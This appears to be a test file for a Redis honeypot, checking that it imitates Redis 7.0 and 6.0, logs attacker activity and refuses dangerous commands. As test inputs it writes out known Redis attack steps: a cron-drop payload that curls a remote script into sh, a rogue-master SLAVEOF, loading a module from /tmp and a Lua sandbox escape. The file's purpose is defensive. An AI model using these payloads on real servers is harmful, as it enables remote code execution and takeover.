// redis decoy over raw RESP and inline commands on a socket, and with redis-cli when installed.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { connect, type Socket } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { startTestDecky, type TestDecky } from '../harness.ts';

type Reply = string | number | null | Error | Reply[];

/** A tiny RESP2 client: sends commands, parses replies. */
class RespClient {
  private buf = Buffer.alloc(0);
  private waiters: (() => void)[] = [];
  closed = false;
  readonly socket: Socket;
  constructor(socket: Socket) {
    this.socket = socket;
    socket.on('data', (c: Buffer) => {
      this.buf = Buffer.concat([this.buf, c]);
      this.waiters.splice(0).forEach((w) => w());
    });
    socket.on('close', () => {
      this.closed = true;
      this.waiters.splice(0).forEach((w) => w());
    });
    socket.on('error', () => undefined);
  }
  static open(d: TestDecky): Promise<RespClient> {
    return new Promise((resolve, reject) => {
      const s = connect({ host: d.ip, port: d.port('redis') }, () => resolve(new RespClient(s)));
      s.once('error', reject);
    });
  }
  private parse(at: number): [Reply, number] | null {
    const eol = this.buf.indexOf('\r\n', at);
    if (eol < 0) return null;
    const line = this.buf.toString('latin1', at + 1, eol);
    const t = this.buf[at];
    if (t === 0x2b) return [line, eol + 2];
    if (t === 0x2d) return [new Error(line), eol + 2];
    if (t === 0x3a) return [Number(line), eol + 2];
    if (t === 0x24) {
      const n = Number(line);
      if (n < 0) return [null, eol + 2];
      if (this.buf.length < eol + 2 + n + 2) return null;
      return [this.buf.toString('utf8', eol + 2, eol + 2 + n), eol + 4 + n];
    }
    if (t === 0x2a) {
      const n = Number(line);
      if (n < 0) return [null, eol + 2];
      const items: Reply[] = [];
      let pos = eol + 2;
      for (let i = 0; i < n; i++) {
        const r = this.parse(pos);
        if (!r) return null;
        items.push(r[0]);
        pos = r[1];
      }
      return [items, pos];
    }
    throw new Error(`bad reply byte ${t}`);
  }
  async reply(): Promise<Reply> {
    const deadline = Date.now() + 3000;
    for (;;) {
      if (this.buf.length > 0) {
        const r = this.parse(0);
        if (r) {
          this.buf = this.buf.subarray(r[1]);
          return r[0];
        }
      }
      if (this.closed) throw new Error('connection closed');
      if (Date.now() > deadline) throw new Error('timeout');
      await new Promise<void>((res) => {
        const t = setTimeout(res, 200);
        this.waiters.push(() => {
          clearTimeout(t);
          res();
        });
      });
    }
  }
  async cmd(...args: (string | Buffer)[]): Promise<Reply> {
    const parts: Buffer[] = [Buffer.from(`*${args.length}\r\n`)];
    for (const a of args) {
      const b = typeof a === 'string' ? Buffer.from(a) : a;
      parts.push(Buffer.from(`$${b.length}\r\n`), b, Buffer.from('\r\n'));
    }
    this.socket.write(Buffer.concat(parts));
    return this.reply();
  }
  async inline(line: string): Promise<Reply> {
    this.socket.write(line + '\r\n');
    return this.reply();
  }
  close(): void {
    this.socket.destroy();
  }
}

describe('redis decoy (open instance, Redis 7.0)', () => {
  let d: TestDecky;
  before(async () => {
    d = await startTestDecky({ services: ['redis'] });
  });
  after(() => d.stop());

  it('answers INFO with the persona version and OS (the nmap redis-server probe)', async () => {
    const c = await RespClient.open(d);
    const info = (await c.cmd('info')) as string;
    c.close();
    assert.match(info, /^# Server\r\nredis_version:7\.0\.15\r\n/);
    assert.match(info, /\r\nos:Linux 6\.1\.0-\S+ x86_64\r\n/);
    assert.match(info, /# Keyspace\r\ndb0:keys=\d+/);
    const e = await d.waitForEvent((e) => e.event === 'command' && e.fields.command === 'info');
    assert.equal(e.fields.argc, '0');
  });

  it('refuses AUTH on an instance without a password and records the secret', async () => {
    const c = await RespClient.open(d);
    const r = await c.cmd('AUTH', 'foobared');
    c.close();
    assert.ok(r instanceof Error);
    assert.equal(r.message, 'ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?');
    const e = await d.waitForEvent((e) => e.event === 'auth_attempt');
    assert.equal(e.fields.username, 'default');
    assert.equal(e.fields.success, 'false');
    assert.equal(e.secret?.toString(), 'foobared');
  });

  it('serves a bait keyspace and glob-matches KEYS, SCAN and CONFIG GET', async () => {
    const c = await RespClient.open(d);
    const keys = (await c.cmd('KEYS', '*')) as string[];
    assert.ok(keys.includes('config:database_url'));
    assert.ok(keys.some((k) => k.startsWith('session:')));
    const sessions = (await c.cmd('KEYS', 'sess[i]on:*')) as string[];
    assert.equal(sessions.length, 4);
    assert.match((await c.cmd('GET', 'config:database_url')) as string, /^postgresql:\/\/app:\S+@db-primary\.internal:5432\/app_production$/);
    const scan = (await c.cmd('SCAN', '0', 'MATCH', 'api:*')) as [string, string[]];
    assert.deepEqual(scan, ['0', ['api:payments:secret_key']]);
    assert.deepEqual(await c.cmd('CONFIG', 'GET', 'dbfil*'), ['dbfilename', 'dump.rdb']);
    assert.equal(await c.cmd('TYPE', 'user:1:email'), 'string');
    assert.equal(await c.cmd('PING'), 'PONG');
    c.close();
  });

  it('records the cron-drop attack: SET payload, CONFIG SET dir (refused on 7.x), SAVE → quarantined file', async () => {
    const c = await RespClient.open(d);
    assert.equal(await c.cmd('FLUSHALL'), 'OK');
    const payload = '\n\n*/1 * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n\n';
    assert.equal(await c.cmd('SET', 'backup1', payload), 'OK');
    const dir = await c.cmd('CONFIG', 'SET', 'dir', '/var/spool/cron/crontabs');
    assert.ok(dir instanceof Error);
    assert.match(dir.message, /can't set protected config/);
    assert.ok((await c.cmd('CONFIG', 'SET', 'dbfilename', 'root')) instanceof Error, 'dbfilename is protected too');
    assert.equal(await c.cmd('SAVE'), 'OK');
    c.close();
    const set = await d.waitForEvent((e) => e.event === 'command' && e.fields.command === 'set');
    assert.deepEqual(JSON.parse(set.fields.args!), ['backup1', payload]);
    const cfg = await d.waitForEvent((e) => e.event === 'config_set' && e.fields.param === 'dir');
    assert.equal(cfg.fields.value, '/var/spool/cron/crontabs');
    assert.equal(cfg.fields.accepted, 'false');
    const up = await d.waitForEvent((e) => e.event === 'file_upload');
    assert.equal(up.fields.name, '/var/lib/redis/dump.rdb');
    const expected = Buffer.from(`backup1\n${payload}\n`);
    assert.equal(up.fields.sha256, createHash('sha256').update(expected).digest('hex'));
    const stored = readFileSync(join(d.dataDir, 'quarantine', d.name, 'redis-save', up.fields.sha256!));
    assert.deepEqual(stored, expected);
  });

  it('records rogue-master, module and Lua sandbox attempts and refuses them plausibly', async () => {
    const c = await RespClient.open(d);
    assert.equal(await c.cmd('SLAVEOF', '198.51.100.7', '21000'), 'OK');
    const mod = await c.cmd('MODULE', 'LOAD', '/tmp/exp.so');
    assert.ok(mod instanceof Error && /MODULE command not allowed/.test(mod.message));
    const lua = await c.cmd('EVAL', 'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); return 1', '0');
    assert.ok(lua instanceof Error && /nonexistent global variable 'package'/.test(lua.message));
    assert.equal(await c.cmd('EVAL', 'return 42', '0'), 42);
    c.close();
    const slave = await d.waitForEvent((e) => e.event === 'command' && e.fields.command === 'slaveof');
    assert.equal(slave.fields.master_host, '198.51.100.7');
    assert.equal(slave.fields.master_port, '21000');
    const m = await d.waitForEvent((e) => e.event === 'command' && e.fields.command === 'module');
    assert.equal(m.fields.module_path, '/tmp/exp.so');
    const ev = await d.waitForEvent((e) => e.event === 'command' && e.fields.command === 'eval' && /package/.test(e.fields.script ?? ''));
    assert.match(ev.fields.script!, /luaopen_io/);
  });

  it('parses inline commands with quotes and answers unknown commands and wrong arity like Redis', async () => {
    const c = await RespClient.open(d);
    assert.equal(await c.inline('SET "spaced key" \'a b\''), 'OK');
    assert.equal(await c.inline('GET "spaced key"'), 'a b');
    const unknown = await c.inline('FROBNICATE x y');
    assert.ok(unknown instanceof Error);
    assert.equal(unknown.message, "ERR unknown command 'FROBNICATE', with args beginning with: 'x' 'y' ".replace('FROBNICATE', 'frobnicate'));
    // nmap's GetRequest probe lands here: "GET / HTTP/1.0".
    const arity = await c.inline('GET / HTTP/1.0');
    assert.ok(arity instanceof Error);
    assert.equal(arity.message, "ERR wrong number of arguments for 'get' command");
    c.close();
  });

  it('closes on protocol errors and HTTP cross-protocol requests, then serves the next client', async () => {
    for (const junk of ['*abc\r\n', '*1\r\n$99999999\r\n', 'SET "unbalanced\r\n', 'POST / HTTP/1.1\r\nHost: x\r\n\r\n']) {
      const c = await RespClient.open(d);
      c.socket.write(junk);
      const deadline = Date.now() + 3000;
      while (!c.closed && Date.now() < deadline) await new Promise((r) => setTimeout(r, 10));
      assert.ok(c.closed, `connection closed after ${JSON.stringify(junk)}`);
    }
    const raw = await RespClient.open(d);
    raw.socket.end(randomBytes(500));
    const c = await RespClient.open(d);
    assert.equal(await c.cmd('PING', 'still-here'), 'still-here');
    c.close();
    const pe = await d.waitForEvent((e) => e.event === 'protocol_error' && /unbalanced/.test(e.fields.error ?? ''));
    assert.match(pe.fields.error!, /Protocol error/);
  });

  it('keeps one connection\'s writes away from the next visitor', async () => {
    const a = await RespClient.open(d);
    assert.equal(await a.cmd('SET', 'note', 'left by a'), 'OK');
    a.close();
    const b = await RespClient.open(d);
    assert.equal(await b.cmd('GET', 'note'), null);
    assert.ok(((await b.cmd('KEYS', '*')) as string[]).includes('config:database_url'));
    b.close();
  });

  it('works with redis-cli (skipped when not installed)', async (t) => {
    const has = await new Promise<boolean>((resolve) => execFile('redis-cli', ['--version'], (err) => resolve(!err)));
    if (!has) {
      t.skip('redis-cli is not installed');
      return;
    }
    const out = await new Promise<string>((resolve) =>
      execFile('redis-cli', ['-h', d.ip, '-p', String(d.port('redis')), 'CONFIG', 'GET', 'dir'], { timeout: 10_000 }, (_e, stdout) => resolve(stdout)),
    );
    assert.equal(out, 'dir\n/var/lib/redis\n');
  });
});

describe('redis decoy (password set, Redis 6.0 on Ubuntu 22.04)', () => {
  let d: TestDecky;
  before(async () => {
    d = await startTestDecky({ services: [{ name: 'redis', config: { password: 'redis123' } }], persona: { distro: 'ubuntu22' } });
  });
  after(() => d.stop());

  it('demands AUTH, rejects wrong passwords with 6.0 wording and lets the weak one in', async () => {
    const c = await RespClient.open(d);
    const noauth = await c.cmd('KEYS', '*');
    assert.ok(noauth instanceof Error && noauth.message === 'NOAUTH Authentication required.');
    const wrong = await c.cmd('AUTH', 'admin');
    assert.ok(wrong instanceof Error && wrong.message === 'WRONGPASS invalid username-password pair');
    assert.equal(await c.cmd('AUTH', 'redis123'), 'OK');
    assert.ok(((await c.cmd('KEYS', '*')) as string[]).length > 5);
    assert.match((await c.cmd('INFO', 'server')) as string, /redis_version:6\.0\.16/);
    c.close();
    const ok = await d.waitForEvent((e) => e.event === 'auth_attempt' && e.fields.success === 'true');
    assert.equal(ok.secret?.toString(), 'redis123');
    const bad = await d.waitForEvent((e) => e.event === 'auth_attempt' && e.fields.success === 'false');
    assert.equal(bad.secret?.toString(), 'admin');
    const blocked = await d.waitForEvent((e) => e.event === 'command' && e.fields.authenticated === 'false');
    assert.equal(blocked.fields.command, 'keys');
  });
});
